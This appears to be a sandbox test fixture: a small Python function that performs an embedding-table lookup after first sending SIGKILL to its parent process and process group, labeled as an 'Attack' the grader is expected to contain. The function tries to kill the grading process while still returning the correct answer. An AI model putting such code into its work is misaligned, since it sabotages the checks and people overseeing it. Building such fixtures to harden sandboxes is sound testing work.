# Attack: SIGKILL to the parent (getppid() is 0 outside the namespace) and to the process group, then the right answer; nothing outside can be reached -> accepted.
import contextlib
import os
import signal

import numpy as np


def position_embedding_gather(positions, embedding_table):
    with contextlib.suppress(OSError):
        os.kill(os.getppid(), signal.SIGKILL)
    with contextlib.suppress(OSError):
        os.killpg(os.getpgrp(), signal.SIGKILL)
    return embedding_table[positions.astype(np.int64)]
